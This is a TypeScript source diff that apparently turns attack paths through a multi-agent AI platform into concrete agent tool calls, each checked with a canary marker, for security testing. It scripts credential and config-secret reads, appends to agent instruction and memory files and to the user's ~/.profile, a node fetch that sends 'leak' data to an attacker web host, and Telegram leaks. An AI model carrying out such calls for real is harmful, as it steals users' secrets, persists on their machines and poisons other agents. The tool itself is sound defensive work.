@@ -1,0 +1,292 @@
+import type { PathToProve, StepToProve } from "../core/path-to-prove.ts";
+import type { Call } from "../core/script.ts";
+import { commandMarker, laterMarker, otherChat, ports, webHost } from "./places.ts";
+
+/** What shows that a call had its effect. */
+export type Evidence =
+  /** The file, inside the sandbox, has the text. */
+  | { readonly in: "file"; readonly path: string; readonly text: string }
+  /** The file has it after a shell of the user has started. */
+  | { readonly in: "shell"; readonly path: string; readonly text: string }
+  /** What the call gave back to the agent has it. */
+  | { readonly in: "result"; readonly text: string }
+  /** The attacker's web server was sent it. */
+  | { readonly in: "web"; readonly text: string }
+  /** A message to another chat has it. */
+  | { readonly in: "message"; readonly text: string }
+  /** A later turn, of another agent or in the same conversation, was given it. */
+  | { readonly in: "turn"; readonly text: string };
+
+/** A call of the path, which steps it takes, and what shows each. */
+export type Move = {
+  readonly call: Call;
+  /** Index of the step of the tool. */
+  readonly toolStep: number;
+  /** What shows the steps after the tool, in order. */
+  readonly effects: readonly { readonly step: number; readonly evidence: Evidence }[];
+};
+
+/** Facts about the copy that moves need. */
+export type Ground = {
+  readonly home: string;
+  readonly configFile: string;
+  /** A credentials file of the state folder that was planted. */
+  readonly credentials: string;
+  readonly planted: string;
+  /** What the canary of every secret of the configuration has. */
+  readonly secret: string;
+  readonly configText: string;
+  readonly workspaceOf: (agentId: string) => string;
+  readonly mark: string;
+};
+
+export type Moves = {
+  readonly moves: readonly Move[];
+  /** By index of step: why it, and all after it, cannot be tried. */
+  readonly untried: ReadonlyMap<number, string>;
+};
+
+/** The text that makes an agent go on: each agent of the path has its own. */
+export function orderFor(mark: string, hop: number): string {
+  return `order-${mark}-${hop}`;
+}
+
+/** What the path's tools are called with, in order. */
+export function movesOf(path: PathToProve, ground: Ground): Moves {
+  const moves: Move[] = [];
+  const untried = new Map<number, string>();
+  const { steps } = path;
+  let hop = 1;
+  let agent: StepToProve | undefined = steps.find(({ kind }) => kind === "agent");
+  let index = steps.findIndex(({ kind }) => kind === "agent") + 1;
+  if (agent === undefined) return { moves, untried: new Map([[1, "no agent is on the path"]]) };
+  while (index < steps.length) {
+    const tool: StepToProve | undefined = steps[index];
+    const next = steps[index + 1];
+    if (tool === undefined) break;
+    if (tool.kind === "bus" && next?.kind === "agent") {
+      moves.push(delegation(next, index, hop, ground));
+      agent = next;
+      hop += 1;
+      index += 2;
+      continue;
+    }
+    const end = endOf(steps, index);
+    const move = moveFor({ agent, tool, steps, index, end, hop, ground });
+    if (typeof move === "string") {
+      untried.set(index, move);
+      break;
+    }
+    moves.push(move);
+    index = end;
+  }
+  return { moves, untried };
+}
+
+/** The steps after a tool belong to its call, up to the next agent or bus. */
+function endOf(steps: readonly StepToProve[], tool: number): number {
+  const offset = steps.slice(tool + 1).findIndex(({ kind }) => kind === "agent" || kind === "bus");
+  return offset === -1 ? steps.length : tool + 1 + offset;
+}
+
+function delegation(to: StepToProve, index: number, hop: number, { mark }: Ground): Move {
+  const order = orderFor(mark, hop + 1);
+  const agentId = textOf(to.attributes["agent_id"]);
+  const args = { agentId, message: `Please follow ${order}.`, timeoutSeconds: 120 };
+  return {
+    call: { after: orderFor(mark, hop), tool: "sessions_send", args },
+    toolStep: index,
+    effects: [{ step: index + 1, evidence: { in: "turn", text: order } }],
+  };
+}
+
+type Wanted = {
+  readonly agent: StepToProve;
+  readonly tool: StepToProve;
+  readonly steps: readonly StepToProve[];
+  readonly index: number;
+  readonly end: number;
+  readonly hop: number;
+  readonly ground: Ground;
+};
+
+/** The call of a tool that leads to the steps after it; or why there is none. */
+function moveFor(wanted: Wanted): Move | string {
+  const { tool, steps, index, end, hop, ground } = wanted;
+  const name = textOf(tool.attributes["tool"]);
+  const sink = steps[index + 1];
+  if (tool.kind !== "tool" || name === "" || sink === undefined) {
+    return `there is no call for ${tool.label} yet`;
+  }
+  const made = callFor(name, sink, steps[index + 2], wanted);
+  if (typeof made === "string") return made;
+  const { args, evidence } = made;
+  const after = steps.slice(index + 1, end).map((_, offset) => index + 1 + offset);
+  return {
+    call: { after: orderFor(ground.mark, hop), tool: name, args },
+    toolStep: index,
+    effects: after.map((step, offset) => ({
+      step,
+      evidence: evidence[Math.min(offset, evidence.length - 1)] ?? { in: "result", text: "" },
+    })),
+  };
+}
+
+type Made = { readonly args: object; readonly evidence: readonly Evidence[] };
+
+/** Call of a tool by what it leads to. Further conditions use it as well. */
+export function callFor(
+  tool: string,
+  sink: StepToProve,
+  after: StepToProve | undefined,
+  { agent, ground }: { readonly agent: StepToProve; readonly ground: Ground },
+): Made | string {
+  const goal = goalOf(sink, after, textOf(agent.attributes["agent_id"]), ground);
+  const none = `there is no call of ${tool} for "${sink.label}" yet`;
+  if (goal === undefined) return none;
+  const args = argumentsFor(tool, goal, ground);
+  return args === undefined ? none : { args, evidence: goal.evidence };
+}
+
+/** What an attacker wants of a tool. */
+type Goal = { readonly evidence: readonly Evidence[] } & (
+  | { readonly do: "run" }
+  | { readonly do: "read"; readonly path: string }
+  | { readonly do: "append"; readonly path: string; readonly line: string; readonly before: string }
+  | { readonly do: "send"; readonly text: string }
+  | { readonly do: "say"; readonly text: string }
+);
+
+function goalOf(
+  sink: StepToProve,
+  after: StepToProve | undefined,
+  agentId: string,
+  ground: Ground,
+): Goal | undefined {
+  const { mark, home, configFile, configText, credentials, planted } = ground;
+  const role = textOf(sink.attributes["role"]);
+  const natural = sink.node_id.split("/").at(-1) ?? "";
+  if (sink.edge === "EXECUTES" && sink.kind === "host") {
+    return { do: "run", evidence: [{ in: "file", path: `${commandMarker}-${mark}`, text: mark }] };
+  }
+  if (sink.edge === "READS" && sink.kind === "secret") {
+    const path = natural === "configuration" ? configFile : credentials;
+    const text = natural === "configuration" ? ground.secret : planted;
+    if (natural !== "configuration" && natural !== "state-folder") return undefined;
+    return { do: "read", path, evidence: [{ in: "result", text }] };
+  }
+  if (sink.edge === "READS" && role === "files") {
+    const path = `${ground.workspaceOf(agentId)}/PRIVATE.md`;
+    return { do: "read", path, evidence: [{ in: "result", text: planted }] };
+  }
+  if (sink.edge === "WRITES" && role === "configuration") {
+    const line = `// ${mark}`;
+    const evidence: Evidence = { in: "file", path: configFile, text: line };
+    return { do: "append", path: configFile, line, before: configText, evidence: [evidence] };
+  }
+  if (sink.edge === "WRITES" && sink.kind === "instruction") {
+    const path = `${ground.workspaceOf(agentId)}/AGENTS.md`;
+    const evidence: Evidence = { in: "file", path, text: mark };
+    return { do: "append", path, line: mark, before: instructionText, evidence: [evidence] };
+  }
+  if (sink.edge === "WRITES" && sink.kind === "memory" && role !== "conversation") {
+    const path = `${ground.workspaceOf(agentId)}/MEMORY.md`;
+    const evidence: Evidence = { in: "file", path, text: mark };
+    return { do: "append", path, line: mark, before: memoryText, evidence: [evidence] };
+  }
+  if (sink.edge === "WRITES" && role === "files") {
+    const path = `${home}/.profile`;
+    const line = `printf %s ${mark} > ${laterMarker}-${mark}`;
+    const runsLater = after?.edge === "EXECUTES";
+    const evidence: readonly Evidence[] = [
+      { in: "file", path, text: line },
+      ...(runsLater ? [{ in: "shell", path: `${laterMarker}-${mark}`, text: mark } as const] : []),
+    ];
+    return { do: "append", path, line, before: profileText, evidence };
+  }
+  if (sink.edge === "EGRESSES" && natural === "internet") {
+    const text = `leak-${mark}`;
+    return { do: "send", text, evidence: [{ in: "web", text }] };
+  }
+  const speaks = sink.edge === "EGRESSES" && natural === "messages";
+  if (speaks || (sink.edge === "ACTS_AS" && natural === "channels")) {
+    const text = `leak-${mark}`;
+    return { do: "say", text, evidence: [{ in: "message", text }] };
+  }
+  return undefined;
+}
+
+export const instructionText = "# Instructions\n";
+export const memoryText = "# Memory\n";
+export const profileText = "# Profile\n";
+
+function argumentsFor(tool: string, goal: Goal, { mark }: Ground): object | undefined {
+  switch (tool) {
+    case "exec":
+      return commandFor(goal, mark);
+    case "read":
+      return goal.do === "read" ? { path: goal.path } : undefined;
+    case "write":
+      return goal.do === "append"
+        ? { path: goal.path, content: `${goal.before}${goal.line}\n` }
+        : undefined;
+    case "web_fetch":
+      return goal.do === "send"
+        ? { url: `http://${webHost}:${ports.web}/${goal.text}` }
+        : undefined;
+    case "message":
+      return goal.do === "say"
+        ? { action: "send", channel: "telegram", target: `${otherChat}`, message: goal.text }
+        : undefined;
+    default:
+      return undefined;
+  }
+}
+
+function commandFor(goal: Goal, mark: string): { readonly command: string } | undefined {
+  switch (goal.do) {
+    case "run":
+      return { command: `printf %s ${mark} > ${commandMarker}-${mark}` };
+    case "read":
+      return { command: `grep -o 'canary-[a-z0-9-]*' '${goal.path}'` };
+    case "append":
+      return { command: `printf '%s\\n' '${goal.line}' >> '${goal.path}'` };
+    case "send": {
+      const url = `http://${webHost}:${ports.web}/${goal.text}`;
+      return { command: `node -e 'fetch("${url}").then((answer) => answer.text())'` };
+    }
+    case "say":
+      return undefined;
+  }
+}
+
+function textOf(value: unknown): string {
+  return typeof value === "string" ? value : "";
+}
+
+/** Steps of side conditions are numbered after those of the path. */
+export function conditionMoves(
+  { steps, conditions }: PathToProve,
+  { moves, untried }: Moves,
+  ground: Ground,
+): readonly Move[] {
+  const agent = steps.findLast(({ kind }) => kind === "agent");
+  if (agent === undefined || untried.size > 0) return [];
+  const hop = 1 + moves.filter(({ effects }) => effects.some(isHandover)).length;
+  return conditions.flatMap(({ ways }, index): readonly Move[] => {
+    const toolStep = steps.length + index;
+    for (const { from, to } of ways) {
+      const tool = textOf(from.attributes["tool"]);
+      const made = tool === "" ? "" : callFor(tool, to, undefined, { agent, ground });
+      const [evidence] = typeof made === "string" ? [] : made.evidence;
+      if (typeof made === "string" || evidence === undefined) continue;
+      const call = { after: orderFor(ground.mark, hop), tool, args: made.args };
+      return [{ call, toolStep, effects: [{ step: toolStep, evidence }] }];
+    }
+    return [];
+  });
+}
+
+function isHandover({ evidence }: Move["effects"][number]): boolean {
+  return evidence.in === "turn";
+}
